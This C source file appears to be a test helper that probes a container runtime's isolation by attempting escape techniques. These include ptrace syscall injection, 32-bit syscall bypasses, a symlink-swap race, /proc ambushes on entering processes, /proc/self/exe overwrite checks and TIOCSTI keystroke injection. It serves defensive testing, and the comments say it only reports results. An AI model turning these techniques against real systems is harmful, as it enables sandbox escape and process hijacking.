/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * attack: tries to get out of a container
 *
 * Each verb is an attack, and prints lines of KEY=RESULT, where a result is
 * "ok" or the name of an error. Nothing that it does would harm the machine if
 * it worked: what could be written to is opened and closed again.
 */

#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "lib/cleanup.h"

static void tell(const char *key, const char *what, long result) {
        printf("%s%s%s=%s\n", key, *what ? "." : "", what,
                        result >= 0 ? "ok" : strerrorname_np((int) -result));
}

/* write PATH…: opens files for writing, and does not write. */
static int do_write(char **args) {
        for (; *args; args++) {
                int fd = open(*args, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

                tell("write", *args, fd < 0 ? -errno : 0);
                if (fd >= 0)
                        (void) close(fd);
        }
        return EXIT_SUCCESS;
}

#if defined(__x86_64__)
/* The call is made by the other process, with one argument. Return: what the kernel told it. */
static long call_in(pid_t pid, long number, long argument) {
        struct user_regs_struct before, regs;
        int status;

        if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
                return -errno;
        (void) waitpid(pid, &status, __WALL);
        if (ptrace(PTRACE_GETREGS, pid, NULL, &before) < 0)
                return -errno;

        /* It waits in a call, whose instruction is right behind it. */
        regs = before;
        regs.rip -= 2;
        regs.orig_rax = (unsigned long long) -1;
        regs.rax = (unsigned long long) number;
        regs.rdi = (unsigned long long) argument;
        if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0)
                return -errno;
        (void) waitpid(pid, &status, __WALL);
        if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
                return -errno;
        (void) ptrace(PTRACE_SETREGS, pid, NULL, &before);
        (void) ptrace(PTRACE_DETACH, pid, NULL, NULL);
        return (long) regs.rax;
}

/* trace PID: has another process make a user namespace, in which it would have all capabilities. */
static int do_trace(char **args) {
        tell("trace", args[0], call_in(atoi(args[0]), SYS_unshare, CLONE_NEWUSER));
        return EXIT_SUCCESS;
}

/* The 32-bit interface, which has numbers of its own. */
static long call32(long number, unsigned one, unsigned two, unsigned three) {
        long result;

        __asm__ volatile("push %%rbx; mov %2, %%ebx; int $0x80; pop %%rbx"
                         : "=a"(result)
                         : "a"(number), "r"(one), "c"(two), "d"(three), "S"(0), "D"(0)
                         : "memory", "cc");
        return (int) result;
}

/* interfaces: the same calls by other ways into the kernel. */
static int do_interfaces(char **args) {
        enum {
                I386_MOUNT = 21,
                I386_SOCKETCALL = 102,
                I386_CLONE = 120,
                I386_UNSHARE = 310,
                I386_SOCKET = 359
        };
        unsigned *family = mmap(
                        NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

        if (family == MAP_FAILED)
                return EXIT_FAILURE;
        family[0] = AF_ALG;
        family[1] = SOCK_SEQPACKET;
        tell("i386", "getpid", call32(20, 0, 0, 0));
        tell("i386", "mount", call32(I386_MOUNT, 0, 0, 0));
        tell("i386", "unshare", call32(I386_UNSHARE, CLONE_NEWUSER, 0, 0));
        tell("i386", "clone", call32(I386_CLONE, CLONE_NEWUSER, 0, 0));
        tell("i386", "socket", call32(I386_SOCKET, AF_ALG, SOCK_SEQPACKET, 0));
        tell("i386", "socketcall", call32(I386_SOCKETCALL, 1, (unsigned) (unsigned long) family, 0));
        tell("x32", "unshare", syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER) < 0 ? -errno : 0);
        tell("x32", "mount", syscall(0x40000000 | SYS_mount, 0, 0, 0, 0, 0) < 0 ? -errno : 0);
        return EXIT_SUCCESS;
}
#else
static int do_trace(char **args) {
        return 77;
}

static int do_interfaces(char **args) {
        return 77;
}
#endif

/* swap DIRECTORY TARGET…: exchanges a directory for links to targets, as fast as it can, for ever. */
static int do_swap(char **args) {
        char name[32];
        unsigned n = 0;

        if (chdir(args[0]) < 0 || (mkdir("place", 0755) < 0 && errno != EEXIST))
                return EXIT_FAILURE;
        for (; args[n + 1]; n++) {
                (void) snprintf(name, sizeof(name), "link-%u", n);
                if (symlink(args[n + 1], name) < 0 && errno != EEXIST)
                        return EXIT_FAILURE;
        }
        puts("swapping");
        for (unsigned i = 0;; i = (i + 1) % n) {
                (void) snprintf(name, sizeof(name), "link-%u", i);
                for (int twice = 0; twice < 2; twice++)
                        (void) syscall(SYS_renameat2, AT_FDCWD, "place", AT_FDCWD, name, RENAME_EXCHANGE);
        }
}

/* Return: how many bytes; at least one NUL comes after them. */
static size_t read_words(pid_t pid, char *words, size_t size) {
        char path[64];
        ssize_t n;
        int fd;

        (void) snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        n = fd < 0 ? -1 : read(fd, words, size - 1);
        if (fd >= 0)
                (void) close(fd);
        n = n < 0 ? 0 : n;
        words[n] = '\0';
        return (size_t) n;
}

static bool is_executed_as(pid_t pid, const char *word) {
        size_t n = strlen(word);
        char words[32];

        return read_words(pid, words, sizeof(words)) >= n && memcmp(words, word, n) == 0;
}

/*
 * Somebody from outside who has not become a program of the container's yet: its words are in the memory
 * that exec takes away.
 */
static bool is_entering(pid_t pid) {
        return is_executed_as(pid, "slipway");
}

/* What its caller has said is for nobody here, the values of variables least of all. */
static void try_words(pid_t pid) {
        char words[64];
        size_t n = read_words(pid, words, sizeof(words));

        if (strncmp(words, "slipway", 7) != 0)
                return;
        for (size_t i = strlen(words); i < n; i++)
                if (words[i]) {
                        tell("entering", "words", 0);
                        return;
                }
}

/* What was opened belongs to the one who enters only if that is not over now. */
static void try_entering(pid_t pid, const char *what, int flags) {
        char path[64];
        int fd;

        (void) snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
        fd = open(path, flags | O_CLOEXEC);
        if (fd < 0)
                return;
        if (is_entering(pid))
                tell("entering", what, 0);
        (void) close(fd);
}

/* ambush: looks for processes that enter, and for a way into them, for ever; says how often it saw one. */
static _Noreturn void ambush(void) {
        static const char *const files[] = { "mem", "environ", "maps", "auxv", "fd/3", "fd/4", "root", "cwd",
                "exe" };

        puts("waiting");
        for (unsigned seen = 0;;) {
                autoclosedir DIR *dir = opendir("/proc");
                struct dirent *entry;

                /* Those that were caught when they were the container's already may end. */
                while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
                        ;
                while (dir && (entry = readdir(dir))) {
                        pid_t pid = atoi(entry->d_name);

                        if (pid <= 1 || !is_entering(pid))
                                continue;
                        if (seen++ % 16 == 0)
                                printf("seen=%u\n", seen);
                        try_words(pid);
                        if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) >= 0 && is_entering(pid))
                                tell("entering", "trace", 0);
                        for (size_t i = 0; i < ELEMENTS(files); i++)
                                try_entering(pid, files[i], O_RDONLY | O_NONBLOCK);
                        try_entering(pid, "mem", O_RDWR);
                        try_entering(pid, "exe", O_WRONLY);
                }
        }
}

static int do_ambush(char **args) {
        ambush();
}

/* Return: whether the file could be opened for writing. */
static bool can_write(const char *path) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);

        if (fd < 0)
                return false;
        (void) close(fd);
        return true;
}

/* overwrite: looks for a script that its interpreter was made to execute itself for, and for a way to write
 * to that. */
static _Noreturn void overwrite(void) {
        char path[64];

        puts("waiting");
        for (unsigned seen = 0;;) {
                autoclosedir DIR *dir = opendir("/proc");
                struct dirent *entry;

                while (dir && (entry = readdir(dir))) {
                        pid_t pid = atoi(entry->d_name);
                        int fd;

                        if (pid <= 1 || !is_executed_as(pid, "/proc/self/exe"))
                                continue;
                        (void) snprintf(path, sizeof(path), "/proc/%d/exe", pid);
                        fd = open(path, O_PATH | O_CLOEXEC);
                        if (fd < 0)
                                continue;
                        if (seen++ % 8 == 0)
                                printf("seen=%u\n", seen);
                        if (can_write(path))
                                tell("overwrite", "running", 0);
                        while (is_executed_as(pid, "/proc/self/exe"))
                                (void) usleep(100);
                        (void) snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                        if (can_write(path))
                                tell("overwrite", "ended", 0);
                        (void) close(fd);
                }
        }
}

static int do_overwrite(char **args) {
        overwrite();
}

/* keyboard: types on the terminals that it finds, as if somebody sat there. */
static int do_keyboard(char **args) {
        static const char letter = 'x';
        char name[16];

        for (int fd = 0; fd < 3; fd++) {
                (void) snprintf(name, sizeof(name), "%d", fd);
                tell("terminal", name, isatty(fd) ? 0 : -ENOTTY);
                tell("type", name, ioctl(fd, TIOCSTI, &letter) < 0 ? -errno : 0);
        }
        tell("terminal", "tty", open("/dev/tty", O_RDWR | O_CLOEXEC) < 0 ? -errno : 0);
        return EXIT_SUCCESS;
}

/* hold NAME COMMAND…: executes a command with a key of that name in its session's keyring. */
static int do_hold(char **args) {
        if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
                        syscall(SYS_add_key, "user", args[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
                return 77;
        (void) execvp(args[1], args + 1);
        return EXIT_FAILURE;
}

/* key NAME: looks for it in the keyring of the session. */
static int do_key(char **args) {
        long found = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", args[0], 0);

        tell("key", args[0], found < 0 ? -errno : 0);
        return EXIT_SUCCESS;
}

/* clang-format off */
static const struct {
        const char *verb;
        int arguments; /* at least */
        int (*run)(char **args);
} verbs[] = {
        { "ambush",     0, do_ambush     },
        { "hold",       2, do_hold       },
        { "interfaces", 0, do_interfaces },
        { "key",        1, do_key        },
        { "keyboard",   0, do_keyboard   },
        { "overwrite",  0, do_overwrite  },
        { "swap",       2, do_swap       },
        { "trace",      1, do_trace      },
        { "write",      1, do_write      },
};
/* clang-format on */

int main(int argc, char **argv) {
        (void) setvbuf(stdout, NULL, _IOLBF, 0);

        for (size_t i = 0; argc > 1 && i < ELEMENTS(verbs); i++)
                if (strcmp(verbs[i].verb, argv[1]) == 0 && argc - 2 >= verbs[i].arguments) {
                        int status = verbs[i].run(argv + 2);

                        puts("end");
                        return status;
                }
        fprintf(stderr, "usage: attack VERB [ARGUMENT…]\n");
        return 2;
}
